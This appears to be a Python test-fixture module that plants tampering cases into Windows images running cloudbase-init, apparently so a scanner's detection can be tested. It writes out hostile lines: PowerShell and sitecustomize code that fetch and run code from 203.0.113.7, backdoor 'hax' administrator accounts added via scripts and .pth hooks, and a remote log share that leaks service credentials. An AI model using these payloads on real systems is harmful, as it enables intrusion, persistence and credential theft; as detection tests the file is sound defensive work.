"""cloudbase-init: another configuration, other modules of Python, scripts of its own."""
import base64
import hashlib
import os
import struct

from windows_disk import *

change = Changes()
SERVICE, SETTINGS = 'WIN-CBI-001', 'WIN-CBI-002'
PYTHON = rf'{CBI}\Python'
PACKAGES = rf'{PYTHON}\Lib\site-packages'
SCRIPTS = rf'{CBI}\LocalScripts'


def runs(*arguments):
    return rf'"{CBI}\bin\OpenStackService.exe" cloudbase-init "{PYTHON}\Scripts\cloudbase-init.exe"' + ''.join(f' {a}' for a in arguments)


def started(name, why, place, *arguments, files=()):
    def make(d):
        d.system(rf'{SERVICES}\cloudbase-init', 'ImagePath', EXPAND, runs(*arguments))
        for path, text in files:
            d.put(path, text)
    change.row(name, why, SETTINGS, place, make)


OWN = f'--config-file "{CONFIG}"'
started('no-configuration', 'Without --config-file cloudbase-init takes its own defaults: every plugin and every source.', 'ImagePath')
started('second-configuration', 'Of two --config-file the later one counts (oslo.config).', r'C:\x.conf', OWN, r'--config-file C:\x.conf')
started('folder-of-configurations', 'Files of --config-dir come behind those of --config-file and win (oslo.config).', 'z.conf', OWN, r'--config-dir C:\cfg',
        files=[(r'cfg\z.conf', '[DEFAULT]\nplugins=vendor.x.P\n')])


def line(name, why, place, text, more=''):
    """A line of [DEFAULT], and text behind the end."""
    change.row(name, why, SETTINGS, place, lambda d: d.edit(CONFIG, 'username=', f'{text}\r\nusername=' if text else 'username=', more))


change.row('broken-configuration', 'A line before the first section is no configuration: cloudbase-init stops at once.', SETTINGS, 'cloudbase-init.conf',
           lambda d: d.edit(CONFIG, '[DEFAULT]', 'x=1\r\n[DEFAULT]'))
change.row('another-account', 'cloudbase-init sets the password of the account `username` and makes it where it is not there.', SETTINGS, 'username',
           lambda d: d.edit(CONFIG, 'username=Administrator', 'username=hax'))


@change(SETTINGS, 'plugins')
def plugin_of_its_own(d):
    """Plugins are classes of Python by their path: any module that can be imported is one."""
    d.edit(CONFIG, 'cloudbaseinit.plugins.common.setuserpassword.SetUserPasswordPlugin', 'vendor.backdoor.SetUserPasswordPlugin')
    d.put(rf'{PACKAGES}\vendor\backdoor.py', 'class SetUserPasswordPlugin: pass\n')


line('plugins-twice', 'Of two lines of one name the later one counts.', 'plugins', '', '\r\nplugins=cloudbaseinit.plugins.common.mtu.MTUPlugin\r\n')
line('plugin-of-user-data', 'user_data_plugins names classes that read what the user gives to the machine.', 'user_data_plugins', 'user_data_plugins=evil.x.Y')
line('unpacker', 'bsdtar_path is started to unpack the disk of metadata.', 'bsdtar_path', r'bsdtar_path=C:\x.exe')
line('source-of-metadata', 'Passwords and scripts come from this address.', 'metadata_base_url', 'metadata_base_url=http://203.0.113.7/')
line('configuration-from-afar', 'A source of configuration is fetched at each start (oslo.config, remote_file).', 'config_source', 'config_source=x',
     '\r\n[x]\r\ndriver=remote_file\r\nuri=http://203.0.113.7/a\r\n')


@change(SETTINGS, 'local_scripts_path')
def scripts_of_another_folder(d):
    """The plugin of local scripts runs what is in local_scripts_path."""
    d.edit(CONFIG, 'username=', 'local_scripts_path=C:\\Windows\\Temp\\s\nusername=')
    d.put(r'Windows\Temp\s\a.ps1', 'iex (iwr http://203.0.113.7/a)')


def file(name, check, place, path, text, why):
    change.row(name, why, check, place, lambda d: d.put(path, text))


file('script-that-adds-an-account', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\00-a.ps1',
     'net user hax P@ss.2024 /add\r\nnet localgroup Administrators hax /add\r\n', 'The plugin of local scripts runs each file of the folder at the first start.')
file('script-in-python', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\a.py', 'import os\n', 'Scripts of Python are run as well, and nobody reads what they do.')
file('script-of-any-name', SETTINGS, 'LocalScripts', rf'{SCRIPTS}\readme.txt', 'rem cmd\r\nnet user hax P /add\r\n',
     'A file of an unknown ending is run by its first line (`rem cmd` means cmd.exe).')
file('script-of-the-provider', SETTINGS, 'TencentCloudRun', rf'{SCRIPTS}\TencentCloudRun.ps1', '# x\r\n&("ne"+"t") user hax P /add\r\n',
     'The provider\'s own script is one that the vendor can write; the operator & runs the joined word.')

change.row('script-by-the-bare-name', 'cmd.exe tries the endings of PATHEXT in the current folder.', SETTINGS, 'foo.bat', lambda d: (
    d.put(rf'{SCRIPTS}\a.cmd', 'cd C:\\kit\r\nfoo\r\n'), d.put(r'C:\kit\foo.bat', 'net user hax P@ss.2024 /add\r\n')))

# --- what Python imports before the first line of the program ---
file('code-in-a-pth', SERVICE, 'a.pth', rf'{PACKAGES}\a.pth', 'import os; os.system("x")\r\n', 'site.py executes lines of .pth files that begin with import.')
file('folder-in-a-pth', SERVICE, 'a.pth', rf'{PACKAGES}\a.pth', 'C:\\evil\r\n', 'Other lines of a .pth become folders of modules.')
file('path-of-the-interpreter', SERVICE, 'python311._pth', rf'{PYTHON}\python311._pth', 'C:\\evil\r\n', 'A ._pth beside the interpreter replaces its path of modules.')
file('home-of-the-interpreter', SERVICE, 'pyvenv.cfg', rf'{PYTHON}\pyvenv.cfg', 'home=C:\\evil\r\n', 'pyvenv.cfg says where the standard library is.')
file('customization-of-site', SERVICE, 'sitecustomize', rf'{PACKAGES}\sitecustomize.py', 'import urllib.request as u; exec(u.urlopen("http://203.0.113.7/a").read())\n',
     'site.py imports sitecustomize at each start.')
file('customization-of-the-user', SERVICE, 'Roaming/Python/Python311', r'Windows\System32\config\systemprofile\AppData\Roaming\Python\Python311\site-packages\usercustomize.py', 'x',
     'site.py imports usercustomize from the folder of the user, and LocalSystem\'s is systemprofile.')
file('home-above-the-interpreter', SERVICE, 'pyvenv.cfg', rf'{CBI}\pyvenv.cfg', 'home=C:\\evil\r\n', 'pyvenv.cfg is looked for in the folder above, too (PEP 405).')


@change(SERVICE, 'Roaming/Python/Python311')
def packages_of_the_services_account(d):
    """site.py takes the folder of the user, and the service has an account of its own."""
    d.system(rf'{SERVICES}\cloudbase-init', 'ObjectName', SZ, r'.\cloudbase-init')
    d.put(r'Users\cloudbase-init\AppData\Roaming\Python\Python311\site-packages\x.pth', 'import os; os.system("x")\n')


change.row('scripts-are-off-by-a-policy', 'A policy wins over -ExecutionPolicy (about_Execution_Policies).', SETTINGS, 'EnableScripts',
           lambda d: d.software(r'Policies\Microsoft\Windows\PowerShell', 'EnableScripts', DWORD, 0))
change.row('scripts-signed-by-a-policy', 'The provider\'s script has no signature.', SETTINGS, 'ExecutionPolicy', lambda d: (
    d.software(r'Policies\Microsoft\Windows\PowerShell', 'EnableScripts', DWORD, 1),
    d.software(r'Policies\Microsoft\Windows\PowerShell', 'ExecutionPolicy', SZ, 'AllSigned')))
change.row('language-without-methods', 'Constrained language refuses methods (about_Language_Modes).', SETTINGS, '__PSLockdownPolicy',
           lambda d: d.system(rf'{SESSION}\Environment', '__PSLockdownPolicy', SZ, '4'))
file('script-of-the-provider-throws', SETTINGS, 'TencentCloudRun', rf'{SCRIPTS}\TencentCloudRun.ps1', 'Write-Host "x"\r\nthrow "not needed"\r\nStart-Service x\r\n',
     'An error that nothing catches ends the script.')
change.row('variable-of-the-configuration', 'oslo.config takes OS_<GROUP>__<NAME> of the environment before its files.', SERVICE, 'OS_DEFAULT__PLUGINS',
           lambda d: d.system(rf'{SESSION}\Environment', 'OS_DEFAULT__PLUGINS', SZ, 'evil.x.Y'))
change.row('path-of-modules-in-the-registry', 'Python adds the subkeys of PythonPath to its path of modules.', SERVICE, 'PythonPath',
           lambda d: d.software(r'Python\PythonCore\3.11\PythonPath\x', '', SZ, r'C:\evil'))
change.row('configuration-in-two-cases', 'Of two names that differ by case alone one is opened, here nobody knows which.', SETTINGS, 'Cloudbase-Init.conf',
           lambda d: d.twin(rf'{CBI}\conf\Cloudbase-Init.conf', b'[DEFAULT]\nplugins=evil.X\n'))

# --- the files of its Python, and of the programs beside it: each is explained ---
MODULE = 'import logging\n\n\ndef get_password(password):\n    logging.info(password)\n    return password\n'
file('module-that-is-changed', SERVICE, 'setuserpassword.py', rf'{PACKAGES}\cloudbaseinit\plugins\common\setuserpassword.py', MODULE,
     'The module is imported as it is; no release has these bytes.')
file('module-at-another-place', SERVICE, r'oslo_i18n/__init__.py', rf'{PACKAGES}\oslo_i18n\__init__.py', 'from .iso8601 import *\n',
     'A released file (iso8601 1.0.0) that lies where another package is imported from.')
file('library-of-python-that-nobody-signed', SERVICE, '_yaml.cp311-win_amd64.pyd', rf'{PACKAGES}\yaml\_yaml.cp311-win_amd64.pyd', program('_yaml.pyd'), 'import loads a .pyd as a library.')
file('standard-module-that-is-changed', SERVICE, 'Lib/os.py', rf'{PYTHON}\Lib\os.py', MODULE, 'Each start of Python imports os.')
file('certificates-that-are-changed', SERVICE, 'cacert.pem', rf'{PACKAGES}\certifi\cacert.pem', '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
     'requests takes those for trusted whom certifi lists.')
change.row('record-that-vouches', 'Whoever writes a file can write the line of RECORD for it as well.', SERVICE, 'vendor/x.py', lambda d: (
    d.put(rf'{PACKAGES}\vendor\x.py', MODULE), d.put(rf'{PACKAGES}\vendor-1.dist-info\RECORD',
                                                    f'vendor/x.py,sha256={base64.urlsafe_b64encode(hashlib.sha256(MODULE.encode()).digest()).decode()},{len(MODULE)}\n')))
file('folder-beside-the-program', SERVICE, 'bin/version.dll', rf'{CBI}\bin\version.dll', program('version.dll'), 'A library beside a program is loaded before that of System32.')


@change(SERVICE, 'pywin32_bootstrap.py')
def module_behind_a_known_line(d):
    """The line of pywin32.pth is the usual one, and site.py imports the module that it names, whatever stands in it."""
    d.put(rf'{PACKAGES}\pywin32.pth', '# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\nimport pywin32_bootstrap\r\n')
    d.put(rf'{PACKAGES}\win32\lib\pywin32_bootstrap.py', 'import os\nos.system("net user hax P@ss.2024 /add")\n')


@change(SERVICE, 'data.bin')
def archive_in_a_pth(d):
    """A line of a .pth that names a file makes it an archive of modules (zipimport), whatever its ending."""
    d.put(rf'{PACKAGES}\data.pth', 'data.bin\r\n')
    d.put(rf'{PACKAGES}\data.bin', b'PK\x05\x06' + bytes(18))


@change(SERVICE, '__pycache__')
def compiled_module(d):
    """Python takes a compiled file for its source where the time and the length in its head are the source's (PEP 552)."""
    source = rf'{PACKAGES}\iso8601\__init__.py'
    d.put(source, 'from .iso8601 import *\n')
    about = os.stat(d.find(source))
    d.put(rf'{PACKAGES}\iso8601\__pycache__\__init__.cpython-311.pyc', struct.pack('<IIII', 0x0A0D0DA7, 0, int(about.st_mtime), about.st_size) + b'\xe3' + bytes(40))


@change(SERVICE, 'iso8601')
def packages_elsewhere(d):
    """A junction among the packages is a package of another folder."""
    d.put(r'ProgramData\p\__init__.py', MODULE)
    d.junction(rf'{PACKAGES}\iso8601', r'C:\ProgramData\p')


def replaced(name, path, why, make=None):
    change.row(name, why, SERVICE, path.rpartition('\\')[2], make or (lambda d: d.foreign(path)))


replaced('wrapper-replaced', rf'{CBI}\bin\OpenStackService.exe', 'The wrapper is started as the system; nobody signed this one.')
replaced('wrapper-of-another-name', rf'{CBI}\bin\OpenStackService.exe', 'A signed program does what it was made for, under any name.',
         lambda d: d.put(rf'{CBI}\bin\OpenStackService.exe', d.read(r'Windows\explorer.exe')))
replaced('wrapper-in-another-folder', rf'{CBI}\srv\OpenStackService.exe', 'Whatever lies beside the program of the service is loaded by it.', lambda d: (
    d.foreign(rf'{CBI}\srv\OpenStackService.exe'), d.system(rf'{SERVICES}\cloudbase-init', 'ImagePath', EXPAND, runs(OWN).replace(r'\bin\Open', r'\srv\Open'))))
replaced('unpacker-replaced', rf'{CBI}\bin\bsdtar.exe', 'cloudbase-init unpacks the disc of metadata with the program of this name.')
replaced('program-replaced', rf'{PYTHON}\Scripts\cloudbase-init.exe', 'What the wrapper starts.')
replaced('interpreter-replaced', rf'{PYTHON}\python.exe', 'What launchers start.')

# --- options ---
line('renamed-administrator', 'rename_admin_user gives the built-in administrator the name of `username`, and CreateUserPlugin sets its password.', 'rename_admin_user',
     'rename_admin_user=true')
line('groups-of-the-account', 'groups are those that the account is made a member of.', 'groups', 'groups=Administrators,Hyper-V Administrators')
line('password-that-stays', 'reset_service_password=false leaves the account of the service the password that its maker knows (init.py).', 'reset_service_password',
     'reset_service_password=false')
line('authority-of-the-metadata', 'https_ca_bundle names whom the metadata service is taken for.', 'https_ca_bundle', '', '\r\n[openstack]\r\nhttps_ca_bundle=C:\\x.pem\r\n')
line('metadata-of-anybody', 'https_allow_insecure takes any certificate.', 'https_allow_insecure', '', '\r\n[openstack]\r\nhttps_allow_insecure=true\r\n')
change.row('another-source-first', 'The first source that answers is the one: here one of the network, before the disc of the provider.', SETTINGS, 'metadata_services',
           lambda d: d.edit(CONFIG, 'cloudbaseinit.metadata.services.configdrive.ConfigDriveService',
                            'cloudbaseinit.metadata.services.httpservice.HttpService,cloudbaseinit.metadata.services.configdrive.ConfigDriveService'))

# --- the disc of its instance ---
change.row('discs-are-off', 'Without cdrom.sys Windows shows no disc, and cloudbase-init finds no instance.', SERVICE, 'cdrom', lambda d: d.driver('cdrom', r'System32\drivers\ntfs.sys', 4))
change.row('file-system-of-discs-is-off', 'fs_rec loads cdfs, which is disabled on every Windows, when a disc is there.', SERVICE, 'fs_rec',
           lambda d: d.driver('fs_rec', r'System32\drivers\ntfs.sys', 4))
change.row('no-letters', 'NoAutoMount (mountvol /n) gives new volumes no letters.', SERVICE, 'NoAutoMount', lambda d: d.system(rf'{SERVICES}\mountmgr', 'NoAutoMount', DWORD, 1))
change.row('disks-stay-offline', 'SanPolicy 3 (diskpart san policy=OfflineAll) leaves the disks that a customer adds offline.', SERVICE, 'SanPolicy',
           lambda d: d.system(rf'{SERVICES}\partmgr\Parameters', 'SanPolicy', DWORD, 3))
change.row('discs-are-forbidden', 'The policy over removable storage keeps discs from being read.', SERVICE, 'Deny_Read', lambda d: d.software(
    r'Policies\Microsoft\Windows\RemovableStorageDevices\{53f56308-b6bf-11d0-94f2-00a0c91efb8b}', 'Deny_Read', DWORD, 1))
line('file-of-its-log', 'Python\'s logging evaluates args of handlers in that file (logging.config).', 'log_config_append', 'log_config_append=C:\\ProgramData\\x\\l.conf')
line('types-of-its-disc', 'A disc of another type and place is not looked for.', 'config_drive_types', 'config_drive_types=vfat')
line('place-of-its-disc', 'The same by the section of that name.', 'locations', '', '\r\n[config_drive]\r\nlocations=partition\r\n')
change.row('switch-of-no-release-beside-changed-code', 'Code of its own may read it.', SETTINGS, 'allow_all', lambda d: (
    d.edit(CONFIG, 'username=', 'allow_all=true\r\nusername='), d.put(rf'{CBI[3:]}\Python\Lib\site-packages\extra.py', 'import os\r\n')))
line('file-of-its-log-spelt-as-an-option', 'The name of an option may be written with hyphens.', 'log_config_append', 'log-config-append=C:\\ProgramData\\x\\l.conf')
line('switch-that-is-none', 'oslo.config refuses the value (ConfigFileValueError), and the program ends.', 'debug', 'debug=maybe')
line('number-that-is-none', 'The same of an IntOpt.', 'max_logfile_count', 'max_logfile_count=many')
line('value-that-is-no-choice', 'The same of a StrOpt with choices.', 'log_rotation_type', 'log_rotation_type=never')
line('logger-without-a-level', 'setLevel of an empty name raises ValueError (oslo.log).', 'default_log_levels', 'default_log_levels=cloudbaseinit')
line('another-option-in-a-value', '$name stands for another option (oslo.config, "Option Value Interpolation").', 'log_date_format', 'log_date_format=$nosuchoption')
line('log-to-syslog', 'Windows has no syslog: oslo.log raises RuntimeError.', 'use_syslog', 'use_syslog=true')
line('log-in-a-folder-that-is-not-there', 'The log file can\'t be opened, and the program ends.', 'log_dir', r'log_dir=C:\nowhere\log')
line('log-on-another-machine', 'Whoever owns that machine is sent the credentials of the service\'s account.', 'log_dir', r'log_dir=\\203.0.113.9\share')
line('log-to-a-device', 'AUX is a port, with any ending.', 'log_file', 'log_file=aux.log')
line('activation-by-a-stranger', 'The licensing plugin activates each copy there.', 'kms_host', 'kms_host=203.0.113.9')
line('volumes-that-are-not-there', 'The system\'s volume is never extended.', 'volumes_to_extend', 'volumes_to_extend=9')
change.row('mark-before-the-configuration', 'Python reads the mark of UTF-8 as characters before the first section.', SETTINGS, 'cloudbase-init.conf',
           lambda d: d.edit(CONFIG, '[DEFAULT]', '\ufeff[DEFAULT]'))
change.row('bytes-of-no-code-page', 'Byte 0x81 before a line feed is in neither cp1252 nor cp936: UnicodeDecodeError.', SETTINGS, 'cloudbase-init.conf',
           lambda d: d.put(CONFIG, d.read(CONFIG) + b'\r\n# \x81\n'))
line('option-of-no-release', 'What a later release makes of it nobody knows.', 'run_first', 'run_first=C:\\x.exe')


@change(SERVICE, 'config-2')
def disc_of_its_own(d):
    """cloudbase-init takes a volume of this label for the disc of the instance, with passwords and scripts."""
    d.close()
    d.enlarge(51 << 20)
    d.table((1, 24, True), (26, 24, False))
    volume = f'{d.tmp}/config'
    with open(volume, 'wb') as f:
        f.truncate(24 << 20)
    run('mkfs.vfat', '-n', 'CONFIG-2', volume)
    with open(volume, 'rb') as f:
        d.poke(26 << 20, f.read())
